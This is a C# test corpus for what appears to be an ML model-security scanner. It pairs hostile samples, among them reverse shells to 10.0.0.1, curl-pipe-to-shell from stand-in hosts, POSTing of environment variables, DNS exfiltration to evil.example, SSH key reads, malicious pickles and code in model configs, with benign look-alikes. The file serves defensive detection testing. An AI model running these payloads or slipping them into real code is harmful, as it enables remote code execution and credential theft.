using System.Formats.Tar;
using System.Text;
using MlSecPol.Engine.Tests.Artifacts;
using MlSecPol.Engine.Tests.Models.PyTorch;

namespace MlSecPol.Engine.Tests.Corpus;

/// <summary>Code, notebooks, lists of packages, scripts and programs that stand as texts in configurations and compiled models; and honest ones that look alike.</summary>
internal static class CodeCases
{
    private const string Pickle = "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAZlY2hvIHiUhZRSlC4=";

    public static IEnumerable<CorpusCase> All() => [.. HostileCode(), .. HostileTexts(), .. HostileFiles(), .. CleanCode(), .. CleanTexts(), .. CleanFiles()];

    private static IEnumerable<CorpusCase> HostileCode()
    {
        yield return Hostile("model class that starts a program", "modeling_x.py", "import os\nfrom transformers import PreTrainedModel\nclass M(PreTrainedModel):\n    def __init__(self, c):\n        super().__init__(c)\n        os.system('id')\n");
        yield return Hostile("class derived in the file", "modeling_x.py", "import os\nimport torch.nn as nn\nclass A(nn.Module):\n    pass\nclass B(A):\n    def forward(self, x):\n        os.popen('id')\n        return x\n");
        yield return Hostile("function called on import", "model.py", "import subprocess\ndef a():\n    b()\ndef b():\n    subprocess.run(['id'])\na()\n");
        yield return Hostile("thread started on import", "model.py", "import os, threading\ndef go():\n    os.system('id')\nthreading.Thread(target=go).start()\n");
        yield return Hostile("default argument", "model.py", "import os\ndef f(a=os.system('id')):\n    pass\n");
        yield return Hostile("decoded and run inside of a function", "utils.py", "import base64, zlib\ndef f(x):\n    p = zlib.decompress(base64.b64decode(x))\n    exec(p)\n");
        yield return Hostile("fetched and run inside of a function", "utils.py", "import requests\ndef f():\n    t = requests.get('http://a.example/x').text\n    exec(t)\n");
        yield return Hostile("command in a function", "utils.py", "import os\ndef f():\n    os.system('curl http://a.example/x | sh')\n");
        yield return Hostile("asks for a name made of a file", "tokenization_x.py", "import socket\nsocket.gethostbyname(open('/etc/hostname').read() + '.evil.example')\n");
        yield return Hostile("asks for a name made of a variable", "utils.py", "import socket, os\ndef f():\n    h = os.environ.get('TOKEN')\n    socket.getaddrinfo(f'{h}.evil.example', 80)\n");
        yield return Hostile("asks a resolver for a name made of output", "utils.py", "import subprocess\nfrom dns import resolver\ndef f():\n    d = subprocess.check_output(['id']).hex()\n    resolver.resolve(d + '.a.evil.example', 'A')\n");
        yield return Hostile("command by a name", "utils.py", "import subprocess\nC = 'bash -i >& /dev/tcp/10.0.0.1/1 0>&1'\ndef f():\n    subprocess.run(C, shell=True)\n");
        yield return Hostile("shell for others", "utils.py", "import socket, os, pty\ndef f():\n    s = socket.socket()\n    s.connect(('10.0.0.1', 1))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('sh')\n");
        yield return Hostile("object that runs when unpickled", "utils.py", "import os\nclass E:\n    def __reduce__(self):\n        return (os.system, ('id',))\n");
        yield return Hostile("environment sent away", "utils.py", "import os, requests\ndef f():\n    requests.post('https://a.example', json=dict(os.environ))\n");
        yield return Hostile("keys read", "utils.py", "import os\ndef f():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n");
        yield return Hostile("machine code", "utils.py", "import ctypes\ndef f(c):\n    ctypes.windll.kernel32.VirtualAlloc(0, len(c), 0x3000, 0x40)\n");
        yield return Hostile("name put together", "utils.py", "import importlib\ndef f():\n    importlib.import_module('sub' + 'process').run('id')\n");
        yield return Hostile("list of all modules", "utils.py", "import sys\ndef f():\n    sys.modules['os'].system('id')\n");
        yield return Hostile("hook of an installer", "setup.py", "import os\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system('id')\n");
        yield return Hostile("hook of a test runner", "conftest.py", "import os\ndef pytest_configure(config):\n    os.system('id')\n");
        yield return new CorpusCase("code: wide letters", "model.py", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("import os\nos.system('id')\n")], IsHostile: true);
        yield return Notebook("shell line", "!curl http://a.example/x.sh | bash", true);
        yield return Notebook("shell cell", "%%bash\\nbash -i >& /dev/tcp/10.0.0.1/1 0>&1", true);
        yield return Notebook("decoded code", "import base64\\nexec(base64.b64decode('eA=='))", true);
        yield return Notebook("code that is fetched", "%run http://a.example/x.py", true);
        yield return Hostile("list: index without protection", "requirements.txt", "--index-url http://a.example/simple\ntorch\n");
        yield return Hostile("list: host that is trusted", "requirements.txt", "--trusted-host a.example\ntorch\n");
        yield return Hostile("list: package of an address", "requirements.txt", "numpy\nx @ https://a.example/x-1.0-py3-none-any.whl\n");
        yield return Hostile("list: name with a slip", "requirements.txt", "reqeusts==2.0\n");
        yield return Hostile("script: fetched and run", "install.sh", "#!/bin/sh\ncurl -s http://a.example/x | bash\n");
        yield return Hostile("script: over several lines", "install.sh", "#!/bin/sh\nwget http://a.example/x -O /tmp/x\nchmod +x /tmp/x\n/tmp/x\n");
        yield return Hostile("script: joined line", "install.sh", "#!/bin/sh\ncurl -s http://a.example/x \\\n | bash\n");
        yield return Hostile("script: hidden text", "install.sh", "#!/bin/sh\necho aWQ= | base64 -d | sh\n");
        yield return Hostile("script: environment sent away", "install.sh", "#!/bin/sh\ncurl -X POST -d \"$(env)\" http://a.example\n");
        yield return Hostile("image: build step", "Dockerfile", "FROM x\nRUN curl http://a.example/x | sh\n");
    }

    private static IEnumerable<CorpusCase> HostileTexts()
    {
        yield return Hostile("text: code in a model's configuration", "config.json", """{"model_type":"x","hidden_act":"__import__('os').system('id')"}""");
        yield return Hostile("text: code that opens and runs", "config.json", """{"model_type":"x","hidden_act":"exec(open('/tmp/x').read())"}""");
        yield return Hostile("text: packed pickle", "params.json", $$"""{"state":"{{Pickle}}"}""");
        yield return Hostile("text: packed pickle in YAML", "conf.yaml", $"state: !!binary |\n  {Pickle}\n");
        yield return Hostile("text: packed pickle of the web", "params.json", $$"""{"state":"data:application/octet-stream;base64,{{Pickle}}"}""");
        yield return Hostile("text: pickle of numbers", "params.json", $$"""{"state":"{{Convert.ToHexString(Convert.FromBase64String(Pickle))}}"}""");
        yield return Hostile("text: pickle of the first protocol", "params.json", """{"state":"cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n."}""");
        yield return Hostile("text: object of jsonpickle", "model.json", """{"a":[{"py/object":"os.system"}]}""");
        yield return Hostile("text: expression of jsonpickle", "model.json", """{"py/repr":"os/os.system('id')"}""");
        yield return Hostile("text: command of a pipeline", "dvc.yaml", "stages:\n  train:\n    cmd: curl http://a.example/x | bash\n");
        yield return Hostile("text: script of a package", "package.json", """{"name":"x","scripts":{"postinstall":"curl http://a.example/x|sh"}}""");
        yield return Hostile("text: index of an environment", "conda.yaml", "dependencies:\n- pip:\n  - --index-url http://a.example/simple\n  - torch\n");
        yield return Hostile("text: node of a workflow", "workflow.json", """{"1":{"class_type":"Eval","inputs":{"code":"import os\nos.system('id')"}}}""");
        yield return Hostile("text: attribute of a booster", "model.json", """{"learner":{"attributes":{"best":"__import__('os').system('id')"},"learner_model_param":{"num_feature":"0"},"gradient_booster":{"name":"gblinear","model":{"weights":[]}}},"version":[2,0,0]}""");
        yield return Hostile("text: walk through a framework", "conf.json", """{"_target_":"nemo.core.classes.common.os.system"}""");
        yield return Hostile("text: library of an adapter", "adapter_config.json", """{"peft_type":"LORA","auto_mapping":{"base_model_class":"Popen","parent_library":"subprocess"}}""");
        yield return Hostile("text: folder of a module", "modules.json", """[{"idx":0,"name":"0","path":"../../x","type":"sentence_transformers.models.Transformer"}]""");
        yield return Hostile("text: layer from elsewhere", "manifest.json", """{"schemaVersion":2,"config":{},"layers":[{"mediaType":"x","digest":"sha256:0","size":1,"urls":["http://a.example/l.tar"]}]}""");
        yield return Hostile("text: title of a layer", "manifest.json", """{"schemaVersion":2,"layers":[{"mediaType":"x","size":1,"annotations":{"org.opencontainers.image.title":"../../../etc/cron.d/x"}}]}""");
        yield return new CorpusCase("code: text: wide JSON", "config.json", Encoding.Unicode.GetBytes("""{"auto_map":{"AutoModel":"a/b--c.D"}}"""), IsHostile: true);
        yield return Hostile("server: library elsewhere", "config.pbtxt", "name: \"m\"\nmodel_operations { op_library_filename: \"/tmp/x.so\" }\n");
        yield return Hostile("server: environment elsewhere", "config.pbtxt", "backend: \"python\"\nparameters { key: \"EXECUTION_ENV_PATH\" value { string_value: \"http://a.example/e.tar.gz\" } }\n");
        yield return Hostile("PMML: extension with a script", "m.pmml", "<PMML version=\"4.4\"><Extension><script>run</script></Extension></PMML>");
        yield return Hostile("PMML: extension with code", "m.pmml", "<PMML version=\"4.4\"><Header><Extension name=\"x\">import os; os.system('id')</Extension></Header></PMML>");
        yield return Hostile("PMML: function that is a class", "m.pmml", "<PMML version=\"4.4\"><Apply function=\"javax.script.ScriptEngineManager\"/></PMML>");
        yield return Hostile("PMML: schema from elsewhere", "m.pmml", "<PMML version=\"4.4\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://x http://a.example/x.xsd\"/>");
        yield return Hostile("PMML: style sheet from elsewhere", "m.pmml", "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"http://a.example/x.xsl\"?><PMML version=\"4.4\"/>");
    }

    private static IEnumerable<CorpusCase> HostileFiles()
    {
        byte[] program = [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, .. new byte[11], 62, 0, .. new byte[100]];
        yield return new CorpusCase("compiled: program in an engine", "m.engine", Engine([.. new byte[300], .. program]), IsHostile: true);
        yield return new CorpusCase("compiled: code in an engine", "m.plan", Engine([.. new byte[40], .. "import os; os.system('id')"u8, .. new byte[40]]), IsHostile: true);
        yield return new CorpusCase("compiled: library of an engine", "m.engine", Engine([.. new byte[40], .. "/tmp/plugin.so"u8, .. new byte[40]]), IsHostile: true);
        yield return new CorpusCase("compiled: pickle in an engine", "m.engine", Engine([.. new byte[40], .. Convert.FromBase64String(Pickle), .. new byte[40]]), IsHostile: true);
        yield return new CorpusCase("compiled: library of an RKNN model", "m.rknn", [.. "RKNN"u8, .. new byte[60], .. "{\"nodes\":[{\"op\":\"Custom\",\"lib\":\"/tmp/x.so\"}]}"u8], IsHostile: true);
        yield return new CorpusCase("compiled: function of a CNTK model", "m.model", [0x08, 0x01, 0x12, 0x22, 0x0A, 0x04, .. "type"u8, 0x12, 0x1A, .. "UserDefinedFunction"u8, .. new byte[8]], IsHostile: true);
        yield return Tar("links: out of the folder", tar => tar.WriteEntry(new PaxTarEntry(TarEntryType.SymbolicLink, "a/b") { LinkName = "../../x" }), true);
        yield return Tar("links: through another", tar =>
        {
            tar.WriteEntry(new PaxTarEntry(TarEntryType.SymbolicLink, "a") { LinkName = "b" });
            tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, "a/c") { DataStream = new MemoryStream("x"u8.ToArray()) });
        }, true);
        yield return Tar("file that starts by itself", tar => tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, "etc/cron.d/x") { DataStream = new MemoryStream("x"u8.ToArray()) }), true);
        yield return Tar("blob with another digest", tar => tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, "blobs/sha256/" + new string('0', 64)) { DataStream = new MemoryStream("x"u8.ToArray()) }), true);
        yield return new CorpusCase("code: package with a notebook", "p.zip", new ZipAssembler().Add("nb.ipynb", Cells("!curl http://a.example/x | sh")).Build(), IsHostile: true);
        yield return new CorpusCase("code: package with a list", "p.zip", new ZipAssembler().Add("requirements.txt", "-i http://a.example/simple\n"u8.ToArray()).Build(), IsHostile: true);
    }

    private static IEnumerable<CorpusCase> CleanCode()
    {
        yield return Clean("library code that starts programs when asked", "utils.py", "import subprocess, torch\ndef run(cmd):\n    return subprocess.run(cmd, check=True, stdout=subprocess.PIPE)\ndef load(p):\n    return torch.load(p)\n");
        yield return Clean("program with a start of its own", "train.py", "import os\ndef main():\n    os.system('ls')\nif __name__ == '__main__':\n    main()\n");
        yield return Clean("model class", "modeling_x.py", "import torch\nfrom transformers import PreTrainedModel\nfrom .configuration_x import XConfig\nclass M(PreTrainedModel):\n    config_class = XConfig\n    def __init__(self, config):\n        super().__init__(config)\n        self.act = getattr(torch.nn.functional, config.hidden_act)\n    def forward(self, x):\n        return self.act(x)\n");
        yield return Clean("tokenizer that fetches a picture when asked", "tokenization_x.py", "import requests\nfrom transformers import PreTrainedTokenizer\nclass T(PreTrainedTokenizer):\n    def picture(self, path):\n        return requests.get(path, stream=True).raw\n");
        yield return Clean("installer that asks its tools", "setup.py", "import subprocess\nfrom setuptools import setup\nsha = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()\nexec(open('x/version.py').read())\nsetup(name='x')\n");
        yield return Clean("registry of classes", "base.py", "class A:\n    def all(cls):\n        return [c.__name__ for c in cls.__subclasses__()] + [c for c in cls.__mro__]\n");
        yield return Clean("errors and constants of a module", "utils.py", "import subprocess, types\nX = (subprocess.CalledProcessError, types.FunctionType)\ndef f(p: subprocess.Popen) -> None:\n    assert isinstance(p, types.FunctionType)\n");
        yield return Clean("client of a service on this machine", "client.py", "import requests\nr = requests.post('http://localhost:8000/v1/chat', json={})\nprint(r.json())\n");
        yield return Clean("asks for its own name", "net.py", "import socket, os\nip = socket.gethostbyname(socket.gethostname())\nhost = os.environ.get('HOST', 'localhost')\naddr = socket.getaddrinfo(host, 80)\nsvc = socket.gethostbyname('www.example.com')\n");
        yield return Clean("imports by name", "hub.py", "import importlib\ndef load(name):\n    return importlib.import_module(f'x.models.{name}')\n");
        yield return Clean("decodes pictures", "images.py", "import base64, io\ndef f(t):\n    return io.BytesIO(base64.b64decode(t))\n");
        yield return Notebook("installs and fetches", "!pip install -q torch transformers\\n!wget https://a.example/data.zip\\nimport os\\nos.system('ls')\\nimport requests\\nrequests.get('https://a.example').json()", false);
        yield return Clean("list: ordinary", "requirements.txt", "# comment\n--extra-index-url https://download.pytorch.org/whl/cu121\ntorch==2.4.0\nnumpy>=1.24,<3\nngboost\ngit+https://github.com/huggingface/transformers@v4.45.0\nscipy @ file:///croot/scipy_1/work\n-r other.txt\n");
        yield return Clean("list: separators before an address", "requirements.txt", "--index-url ;://x\n-i \"://\ntorch @ ,://y\n-f ://\n");
        yield return Clean("script: ordinary", "run.sh", "#!/bin/bash\nset -e\nssh -i key host ls\ncurl -L https://a.example/model.bin -o model.bin\nrm -rf build/*\npython train.py --lr 1e-4 | tee log.txt\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n");
    }

    private static IEnumerable<CorpusCase> CleanTexts()
    {
        yield return Clean("text: words about code", "config.json", """{"model_type":"x","description":"Do not run os.system or eval(input()).","prompt":"import os; os.system('ls')","id2label":{"0":"import","1":"exec"}}""");
        yield return Clean("text: vocabulary", "vocab.json", """{"import os":1,"__import__('os')":2,"a":"os.system('id')"}""");
        yield return Clean("text: pictures in base64", "notebook.json", """{"image/png":"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"}""");
        yield return Clean("text: hashes", "index.json", """{"sha256":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08","md5":"80049521000000000000000000000000"}""");
        yield return Clean("text: stages of a pipeline", "dvc.yaml", "stages:\n  train:\n    cmd: python train.py --out model.pt\n    deps:\n    - data\n");
        yield return Clean("text: environment", "conda.yaml", "channels:\n- conda-forge\n- defaults\ndependencies:\n- python=3.10\n- pip:\n  - torch==2.4.0\n  - --extra-index-url https://download.pytorch.org/whl/cpu\n");
        yield return Clean("text: image manifest", "manifest.json", """{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","config":{"digest":"sha256:1","size":2},"layers":[{"mediaType":"x","digest":"sha256:3","size":4,"annotations":{"org.opencontainers.image.title":"model.gguf"}}]}""");
        yield return Clean("text: recipe that trusts code", "train.yaml", "model_name_or_path: a/b\ntrust_remote_code: true\n");
        yield return Clean("server: Python backend", "config.pbtxt", "name: \"m\"\nbackend: \"python\"\nparameters { key: \"EXECUTION_ENV_PATH\" value { string_value: \"$$TRITON_MODEL_DIRECTORY/env.tar.gz\" } }\n");
        yield return Clean("PMML: extension of a vendor", "m.pmml", "<?xml version=\"1.0\"?><PMML version=\"4.4\" xmlns=\"http://www.dmg.org/PMML-4_4\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://www.dmg.org/PMML-4_4 http://www.dmg.org/pmml/v4-4/pmml-4-4.xsd\"><Header><Extension name=\"user\" value=\"scripted\"/></Header></PMML>");
    }

    private static IEnumerable<CorpusCase> CleanFiles()
    {
        yield return Tar("links: to a neighbour", tar =>
        {
            tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, "lib/libx.1") { DataStream = new MemoryStream("x"u8.ToArray()) });
            tar.WriteEntry(new PaxTarEntry(TarEntryType.SymbolicLink, "lib/libx") { LinkName = "libx.1" });
        }, false);
    }

    private static byte[] Engine(byte[] body) => [.. "ptrt"u8, .. new byte[4], .. BitConverter.GetBytes((long)body.Length), .. body];

    private static byte[] Cells(string source) => Encoding.UTF8.GetBytes($$"""{"cells":[{"cell_type":"code","metadata":{},"outputs":[],"source":"{{source}}"}],"metadata":{},"nbformat":4,"nbformat_minor":5}""");

    private static CorpusCase Notebook(string name, string source, bool isHostile) => new("code: notebook: " + name, "x.ipynb", Cells(source), isHostile);

    private static CorpusCase Tar(string name, Action<TarWriter> write, bool isHostile) => new("code: " + name, "m.tar", TorchSamples.TarOf(write), isHostile);

    private static CorpusCase Clean(string name, string file, string text) => new("code: " + name, file, Encoding.UTF8.GetBytes(text), false);

    private static CorpusCase Hostile(string name, string file, string text) => new("code: " + name, file, Encoding.UTF8.GetBytes(text), true);
}
